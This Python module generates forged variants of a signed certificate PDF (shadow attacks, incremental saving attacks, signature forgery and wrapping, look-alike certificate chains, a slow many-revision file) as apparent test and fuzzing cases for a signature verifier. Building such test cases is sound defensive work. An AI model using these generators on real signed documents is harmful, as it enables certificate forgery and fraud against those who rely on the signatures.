"""Hostile PDFs built from a genuine issued certificate: the attack classes of the PDF
signature literature, reproduced on our own documents (no published sample is needed).

* Shadow attacks (Mainka, Mladenov, Rohlmann, NDSS 2021): hide, replace, hide-and-replace,
  each done here the way an attacker who holds a signed certificate can: an incremental
  update that overlays, replaces or swaps objects (page content, fonts, form XObjects,
  the page itself, the catalog) or only rewrites the cross-reference table.
* Incremental Saving Attacks (Mladenov et al., CCS 2019): an update without xref/trailer,
  with a trailer but no xref, and one whose xref points old object numbers at new bytes.
* Universal Signature Forgery: the signature dictionary replaced by one whose /Contents or
  /ByteRange is missing, null, empty, malformed, of the wrong type, out of bounds or
  overlapping; and /Contents overwritten in place.
* Signature Wrapping: the signed tail moved and the byte range pointed at it; a byte range
  pointing at a copy of the signed bytes carried inside a later update.
* An added empty, invisible signature field; a second signature by a foreign key.
* Re-signed look-alikes: the document signed again by a "root" and "DSC" that copy the
  genuine names with another key type (RSA, Ed25519, P-384), the chain embedded.

`build_all(pdf)` returns every case that needs only the signed PDF, by name; tests/test_hostile_pdf.py
says which reason each must produce. fuzz/make_seeds.py uses the same cases as fuzz seeds.
"""

from __future__ import annotations

import io
import re
from datetime import datetime, timedelta, timezone
from typing import Callable

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import (ArrayObject, DictionaryObject, NameObject, NullObject, NumberObject,
                                       StreamObject, pdf_name, pdf_string)
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields

Builder = Callable[[bytes], bytes]


# -- helpers ------------------------------------------------------------------------------------

def _update(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _page_ref(writer) -> generic.IndirectObject:
    return writer.root["/Pages"].raw_get("/Kids")[0]


def _page(writer) -> DictionaryObject:
    return _page_ref(writer).get_object()


def _replace(writer, ref: generic.IndirectObject, new_object) -> None:
    """Write `new_object` under `ref`'s object number in the update (the old one is shadowed)."""
    writer.objects[(ref.generation, ref.idnum)] = new_object


def _stream(content: bytes, extra: dict | None = None) -> StreamObject:
    return StreamObject(dict(extra or {}), stream_data=content)


def _sig_ref(pdf: bytes) -> generic.IndirectObject:
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    return reader.embedded_signatures[0].sig_field.raw_get("/V")


def _sig_dict(pdf: bytes) -> DictionaryObject:
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    return reader.embedded_signatures[0].sig_object


def _byte_range(pdf: bytes) -> list[int]:
    match = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf)
    assert match, "no /ByteRange in the PDF"
    return [int(g) for g in match.groups()]


def _set_byte_range_in_place(pdf: bytes, values: list[int]) -> bytes:
    """Rewrite the /ByteRange digits in place, keeping the file length (the padding absorbs it)."""
    match = re.search(rb"/ByteRange\s*\[[^\]]*\]\s*", pdf)
    assert match
    new = b"/ByteRange [" + b" ".join(str(v).encode() for v in values) + b"]"
    old = match.group(0)
    assert len(new) <= len(old), "new byte range longer than the reserved space"
    return pdf[:match.start()] + new + b" " * (len(old) - len(new)) + pdf[match.end():]


_OVERLAY = b"q 1 1 1 rg 40 430 520 140 re f Q BT /Helv 22 Tf 0 g 60 500 Td (Berlaku sampai / valid until 2099) Tj ET"


def _helvetica() -> DictionaryObject:
    return DictionaryObject({pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type1"),
                             pdf_name("/BaseFont"): pdf_name("/Helvetica")})


def _with_sig_entries(pdf: bytes, change: Callable[[DictionaryObject, bytes], None]) -> bytes:
    """USF: an update that replaces the signature dictionary by an edited copy."""
    ref = _sig_ref(pdf)
    original = _sig_dict(pdf)

    def edit(writer):
        copy = DictionaryObject({NameObject(k): original.raw_get(k) for k in original})
        change(copy, pdf)
        _replace(writer, ref, copy)

    return _update(pdf, edit)


# -- shadow attacks ---------------------------------------------------------------------------

def shadow_hide_overlay_annotation(pdf: bytes) -> bytes:
    """Hide: an opaque square annotation, added in an update, covers the dates and the name."""
    def change(writer):
        appearance = writer.add_object(_stream(b"1 1 1 rg 0 0 520 140 re f", {
            pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(520), NumberObject(140)])}))
        annotation = writer.add_object(DictionaryObject({
            pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Square"),
            pdf_name("/Rect"): ArrayObject([NumberObject(40), NumberObject(430), NumberObject(560), NumberObject(570)]),
            pdf_name("/F"): NumberObject(4), pdf_name("/AP"): DictionaryObject({pdf_name("/N"): appearance})}))
        page = _page(writer)
        page["/Annots"] = ArrayObject(list(page["/Annots"]) + [annotation])
        writer.update_container(page)
    return _update(pdf, change)


def shadow_replace_content_stream(pdf: bytes) -> bytes:
    """Replace: the page's content stream object rewritten under its own number."""
    def change(writer):
        ref = _page(writer).raw_get("/Contents")
        _replace(writer, ref, _stream(_OVERLAY))
        page = _page(writer)
        page["/Resources"]["/Font"].get_object()[NameObject("/Helv")] = writer.add_object(_helvetica())
        writer.update_container(page["/Resources"]["/Font"].get_object())
    return _update(pdf, change)


def shadow_append_content_stream(pdf: bytes) -> bytes:
    """Hide-and-replace: a second content stream appended to the page draws over the first."""
    def change(writer):
        page = _page(writer)
        overlay = writer.add_object(_stream(_OVERLAY))
        page["/Contents"] = ArrayObject([page.raw_get("/Contents"), overlay])
        page["/Resources"]["/Font"].get_object()[NameObject("/Helv")] = writer.add_object(_helvetica())
        writer.update_container(page)
        writer.update_container(page["/Resources"]["/Font"].get_object())
    return _update(pdf, change)


def shadow_replace_font(pdf: bytes) -> bytes:
    """Replace via font: a page font object swapped for another (glyphs drawn differently)."""
    def change(writer):
        fonts = _page(writer)["/Resources"]["/Font"].get_object()
        name = sorted(fonts.keys())[0]
        _replace(writer, fonts.raw_get(name), _helvetica())
    return _update(pdf, change)


def shadow_replace_xobject(pdf: bytes) -> bytes:
    """Replace: a form XObject the page draws rewritten under its own number."""
    def change(writer):
        xobjects = _page(writer)["/Resources"]["/XObject"]
        name = sorted(xobjects.keys(), key=lambda n: xobjects[n].get("/Subtype") != "/Form")[0]
        ref = xobjects.raw_get(name)
        old = ref.get_object()
        box = old["/BBox"] if "/BBox" in old else _numbers(0, 0, 1, 1)
        _replace(writer, ref, _stream(b"0 g 0 0 600 800 re f", {
            pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"), pdf_name("/BBox"): box}))
    return _update(pdf, change)


def shadow_swap_page(pdf: bytes) -> bytes:
    """Hide-and-replace: the page tree now points at a new page with other content."""
    def change(writer):
        old = _page(writer)
        content = writer.add_object(_stream(_OVERLAY))
        page = DictionaryObject({NameObject(k): old.raw_get(k) for k in old})
        page[NameObject("/Contents")] = content
        page_ref = writer.add_object(page)
        pages = writer.root["/Pages"]
        pages[NameObject("/Kids")] = ArrayObject([page_ref])
        writer.update_container(pages)
    return _update(pdf, change)


def shadow_replace_catalog_seal(pdf: bytes) -> bytes:
    """Replace: the seal text in the catalog swapped for another one."""
    def change(writer):
        writer.root[NameObject("/CertgenSeal")] = pdf_string("https://verifikasi.example.id/v/AAAA")
        writer.update_root()
    return _update(pdf, change)


def shadow_info_title(pdf: bytes) -> bytes:
    """Replace: the document information (title a viewer shows) rewritten in an update."""
    def change(writer):
        info = writer.trailer_view["/Info"]
        ref = writer.trailer_view.raw_get("/Info")
        new = DictionaryObject({NameObject(k): info.raw_get(k) for k in info})
        new[NameObject("/Title")] = pdf_string("Sertifikat palsu / forged")
        _replace(writer, ref, new)
    return _update(pdf, change)


def shadow_xref_only(pdf: bytes) -> bytes:
    """Replace by xref only: an update whose cross-reference table points the page's content
    object at the bytes of another object already in the file (no new object written)."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    page = reader.root["/Pages"]["/Kids"][0].get_object()
    content = page.raw_get("/Contents")
    xobject = page["/Resources"]["/XObject"]
    target = xobject.raw_get(sorted(xobject.keys())[0])
    match = re.search(rb"(?m)^%d 0 obj" % target.idnum, pdf)
    assert match
    # write "N 0 obj" at the end, a copy of the target's body under the content's number,
    # then an xref section for it: the genuine bytes, but another object
    start = len(pdf)
    body = pdf[match.end():pdf.index(b"endobj", match.end())]
    addition = b"\n%d 0 obj" % content.idnum + body + b"endobj\n"
    xref_at = start + len(addition)
    size = int(reader.trailer["/Size"])
    xref = (b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (content.idnum, start + 1))
    prev = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    trailer = (b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
               % (size, reader.trailer.raw_get("/Root").idnum, reader.trailer.raw_get("/Info").idnum, prev, xref_at))
    return pdf + addition + xref + trailer


# -- incremental saving attacks -----------------------------------------------------------------

def _appended_page_content(pdf: bytes) -> tuple[bytes, int]:
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    content = reader.root["/Pages"]["/Kids"][0].get_object().raw_get("/Contents")
    stream = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(_OVERLAY) + 1, _OVERLAY)
    return b"\n%d 0 obj\n%s\nendobj\n" % (content.idnum, stream), content.idnum


def isa_no_xref_no_trailer(pdf: bytes) -> bytes:
    """ISA 1: new object bodies appended after %%EOF, no xref and no trailer (readers that
    repair the file by scanning may take them)."""
    addition, _ = _appended_page_content(pdf)
    return pdf + addition


def isa_trailer_without_xref(pdf: bytes) -> bytes:
    """ISA 2: a new object and a trailer naming it, but no cross-reference section."""
    addition, _ = _appended_page_content(pdf)
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    prev = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    trailer = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        int(reader.trailer["/Size"]), reader.trailer.raw_get("/Root").idnum, prev, prev)
    return pdf + addition + trailer


def isa_xref_to_new_content(pdf: bytes) -> bytes:
    """ISA 3: a complete update (object, xref, trailer) replacing the page content: the
    classic incremental save, hand written."""
    addition, idnum = _appended_page_content(pdf)
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    start = len(pdf)
    prev = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    xref = b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (idnum, start + 1)
    trailer = b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        int(reader.trailer["/Size"]), reader.trailer.raw_get("/Root").idnum, reader.trailer.raw_get("/Info").idnum,
        prev, start + len(addition))
    return pdf + addition + xref + trailer


def isa_byte_range_covers_update(pdf: bytes) -> bytes:
    """ISA 4: after an update, the byte range is stretched (in place) to cover the new bytes."""
    updated = isa_xref_to_new_content(pdf)
    a, b, c, _ = _byte_range(pdf)
    return _set_byte_range_in_place(updated, [a, b, c, len(updated) - c])


# -- universal signature forgery ------------------------------------------------------------

def _usf(edit: Callable[[DictionaryObject, bytes], None]) -> Builder:
    return lambda pdf: _with_sig_entries(pdf, edit)


def _del(key: str):
    def edit(sig, _pdf):
        del sig[NameObject(key)]
    return edit


def _set(key: str, value):
    def edit(sig, _pdf):
        sig[NameObject(key)] = value() if callable(value) else value
    return edit


def _numbers(*values: int) -> ArrayObject:
    return ArrayObject([NumberObject(v) for v in values])


def usf_byte_range_out_of_bounds(sig, pdf):
    a, b, c, d = _byte_range(pdf)
    sig[NameObject("/ByteRange")] = _numbers(a, b, c, d + 10 * len(pdf))


def usf_byte_range_overlapping(sig, pdf):
    a, b, c, d = _byte_range(pdf)
    sig[NameObject("/ByteRange")] = _numbers(a, b, b - 100, d + (c - b) + 100)


def usf_byte_range_negative(sig, pdf):
    a, b, c, d = _byte_range(pdf)
    sig[NameObject("/ByteRange")] = _numbers(a, b, -c, d)


USF_EDITS = {
    "usf_contents_missing": _del("/Contents"),
    "usf_contents_null": _set("/Contents", NullObject),
    "usf_contents_empty": _set("/Contents", lambda: generic.ByteStringObject(b"")),
    "usf_contents_malformed": _set("/Contents", lambda: generic.ByteStringObject(b"\x30\x82\x01\x00not DER at all")),
    "usf_contents_wrong_type": _set("/Contents", lambda: NumberObject(7)),
    "usf_byte_range_missing": _del("/ByteRange"),
    "usf_byte_range_null": _set("/ByteRange", NullObject),
    "usf_byte_range_empty": _set("/ByteRange", lambda: ArrayObject()),
    "usf_byte_range_malformed": _set("/ByteRange", lambda: _numbers(0, 10, 20)),
    "usf_byte_range_wrong_types": _set("/ByteRange", lambda: ArrayObject([pdf_string("0"), pdf_name("/A"),
                                                                          NumberObject(1), NullObject()])),
    "usf_byte_range_out_of_bounds": usf_byte_range_out_of_bounds,
    "usf_byte_range_overlapping": usf_byte_range_overlapping,
    "usf_byte_range_negative": usf_byte_range_negative,
}


def usf_contents_zeroed_in_place(pdf: bytes) -> bytes:
    """USF in place: the /Contents hex string overwritten with zeros (same length, no update)."""
    match = re.search(rb"/Contents\s*<([0-9A-Fa-f]+)>", pdf)
    assert match
    return pdf[:match.start(1)] + b"0" * len(match.group(1)) + pdf[match.end(1):]


# -- signature wrapping ---------------------------------------------------------------------

def swa_moved_tail(pdf: bytes) -> bytes:
    """The signed tail moved to the end, attacker objects in the gap, the byte range pointed
    at the moved tail (rewritten in place: what a viewer that trusts the range would accept)."""
    a, b, c, d = _byte_range(pdf)
    tail = pdf[c:c + d]
    filler = b"\n99 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(_OVERLAY) + 1, _OVERLAY)
    moved = pdf[:c] + filler + tail
    return _set_byte_range_in_place(moved, [a, b, c + len(filler), d])


def swa_range_points_at_copy(pdf: bytes) -> bytes:
    """An update whose signature dictionary points its byte range at a copy of the original
    signed tail, carried in a stream of the update, while the file around it says something
    else: the signed bytes still hash to the signed digest."""
    a, b, c, d = _byte_range(pdf)
    tail = pdf[c:c + d]
    placeholder = 9_999_999_999

    def change(writer):
        writer.add_object(_stream(tail))
        original = _sig_dict(pdf)
        copy = DictionaryObject({NameObject(k): original.raw_get(k) for k in original})
        copy[NameObject("/ByteRange")] = _numbers(a, b, placeholder, d)
        _replace(writer, _sig_ref(pdf), copy)
        page = _page(writer)
        overlay = writer.add_object(_stream(_OVERLAY))
        page["/Contents"] = ArrayObject([page.raw_get("/Contents"), overlay])
        writer.update_container(page)

    wrapped = _update(pdf, change)
    where = wrapped.rindex(tail)
    assert where > c, "the copy of the signed tail is not in the update"
    return wrapped.replace(b"%d" % placeholder, b"%010d" % where)


# -- added fields and signatures ------------------------------------------------------------

def empty_signature_field(pdf: bytes) -> bytes:
    """An update that only adds an empty, invisible signature field."""
    def change(writer):
        fields.append_signature_field(writer, fields.SigFieldSpec("Approval", box=None))
    return _update(pdf, change)


# -- re-signed look-alikes ----------------------------------------------------------------------

def _new_key(kind: str):
    if kind == "rsa":
        return rsa.generate_private_key(public_exponent=65537, key_size=2048)
    if kind == "ed25519":
        return ed25519.Ed25519PrivateKey.generate()
    if kind == "p384":
        return ec.generate_private_key(ec.SECP384R1())
    raise ValueError(kind)


def _hash_for(key):
    return None if isinstance(key, ed25519.Ed25519PrivateKey) else hashes.SHA256()


def look_alike_chain(kind: str, root: x509.Certificate, signer_certificate: x509.Certificate):
    """A 'root' and 'DSC' with the genuine names and extensions, keys of another type."""
    now = datetime.now(timezone.utc)
    root_key, dsc_key = _new_key(kind), _new_key(kind)
    # the genuine root's key identifier too: path building then finds the genuine root
    root_ski = root.extensions.get_extension_for_class(x509.SubjectKeyIdentifier).value
    fake_root = (x509.CertificateBuilder().subject_name(root.subject).issuer_name(root.issuer)
                 .public_key(root_key.public_key()).serial_number(root.serial_number)
                 .not_valid_before(now - timedelta(days=30)).not_valid_after(now + timedelta(days=3650))
                 .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
                 .add_extension(x509.KeyUsage(False, False, False, False, False, True, True, False, False), critical=True)
                 .add_extension(root_ski, critical=False)
                 .sign(root_key, _hash_for(root_key)))
    fake_dsc = (x509.CertificateBuilder().subject_name(signer_certificate.subject).issuer_name(root.subject)
                .public_key(dsc_key.public_key()).serial_number(signer_certificate.serial_number)
                .not_valid_before(now - timedelta(days=30)).not_valid_after(now + timedelta(days=365))
                .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
                .add_extension(x509.KeyUsage(True, True, False, False, False, False, False, False, False), critical=True)
                .add_extension(x509.AuthorityKeyIdentifier(root_ski.digest, None, None), critical=False)
                .sign(root_key, _hash_for(root_key)))
    return dsc_key, fake_dsc, fake_root


def resigned_look_alike(kind: str, unsigned: bytes, root: x509.Certificate, signer_certificate: x509.Certificate,
                        seal: str) -> bytes:
    """The document signed again with a look-alike chain of key type `kind`."""
    from asn1crypto import keys as asn1_keys, x509 as asn1_x509
    from pyhanko.sign import signers
    from pyhanko_certvalidator.registry import SimpleCertificateStore

    dsc_key, fake_dsc, fake_root = look_alike_chain(kind, root, signer_certificate)

    def asn1(cert):
        return asn1_x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER))

    key_der = dsc_key.private_bytes(serialization.Encoding.DER, serialization.PrivateFormat.PKCS8,
                                    serialization.NoEncryption())
    signer = signers.SimpleSigner(signing_cert=asn1(fake_dsc), signing_key=asn1_keys.PrivateKeyInfo.load(key_der),
                                  cert_registry=SimpleCertificateStore.from_certs([asn1(fake_root)]))
    writer = IncrementalPdfFileWriter(io.BytesIO(unsigned), strict=False)
    writer.root[NameObject("/CertgenSeal")] = pdf_string(seal)
    writer.update_root()
    out = signers.sign_pdf(writer, signers.PdfSignatureMetadata(field_name="Signature"), signer=signer)
    return out.getvalue()


def second_signature(pdf: bytes, kind: str = "p384") -> bytes:
    """A second signature appended by a foreign key (a self-made certificate)."""
    from asn1crypto import keys as asn1_keys, x509 as asn1_x509
    from pyhanko.sign import signers

    key = _new_key(kind)
    name = x509.Name([x509.NameAttribute(x509.oid.NameOID.COMMON_NAME, "Co-signer")])
    now = datetime.now(timezone.utc)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(7).not_valid_before(now - timedelta(days=1)).not_valid_after(now + timedelta(days=30))
            .sign(key, _hash_for(key)))
    key_der = key.private_bytes(serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    signer = signers.SimpleSigner(signing_cert=asn1_x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER)),
                                  signing_key=asn1_keys.PrivateKeyInfo.load(key_der), cert_registry=None)
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    out = signers.sign_pdf(writer, signers.PdfSignatureMetadata(field_name="CoSignature"), signer=signer)
    return out.getvalue()


# -- everything ---------------------------------------------------------------------------------

UPDATE_ATTACKS: dict[str, Builder] = {
    "shadow_hide_overlay_annotation": shadow_hide_overlay_annotation,
    "shadow_replace_content_stream": shadow_replace_content_stream,
    "shadow_append_content_stream": shadow_append_content_stream,
    "shadow_replace_font": shadow_replace_font,
    "shadow_replace_xobject": shadow_replace_xobject,
    "shadow_swap_page": shadow_swap_page,
    "shadow_replace_catalog_seal": shadow_replace_catalog_seal,
    "shadow_info_title": shadow_info_title,
    "shadow_xref_only": shadow_xref_only,
    "isa_no_xref_no_trailer": isa_no_xref_no_trailer,
    "isa_trailer_without_xref": isa_trailer_without_xref,
    "isa_xref_to_new_content": isa_xref_to_new_content,
    "isa_byte_range_covers_update": isa_byte_range_covers_update,
    **{name: _usf(edit) for name, edit in USF_EDITS.items()},
    "usf_contents_zeroed_in_place": usf_contents_zeroed_in_place,
    "swa_moved_tail": swa_moved_tail,
    "swa_range_points_at_copy": swa_range_points_at_copy,
    "empty_signature_field": empty_signature_field,
    "second_signature": second_signature,
}


def build_all(pdf: bytes) -> dict[str, bytes]:
    """Every attack that needs only the signed PDF (the look-alikes need the unsigned one)."""
    return {name: build(pdf) for name, build in UPDATE_ATTACKS.items()}


def many_revisions(pdf: bytes, count: int = 4000) -> bytes:
    """A slow file: `count` incremental updates, each adding one harmless object. pyHanko's
    difference analysis grows about quadratically with the revisions (measured here: 1,000
    take 2.5 s, 2,000 take 6.5 s, 4,000 more than 10 s), yet the file stays under every
    structure limit (5,000 objects, 20 MiB): only a wall-clock bound stops it."""
    size = int(re.findall(rb"/Size (\d+)", pdf)[-1])
    root = int(re.findall(rb"/Root (\d+) 0 R", pdf)[-1])
    out = bytearray(pdf)
    prev = int(pdf.rsplit(b"startxref", 1)[1].split()[0])
    for i in range(count):
        number, start = size + i, len(out)
        obj = b"\n%d 0 obj\n<< /X %d >>\nendobj\n" % (number, i)
        xref_at = start + len(obj)
        xref = b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (number, start + 1)
        trailer = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (number + 1, root, prev, xref_at)
        out += obj + xref + trailer
        prev = xref_at
    return bytes(out)
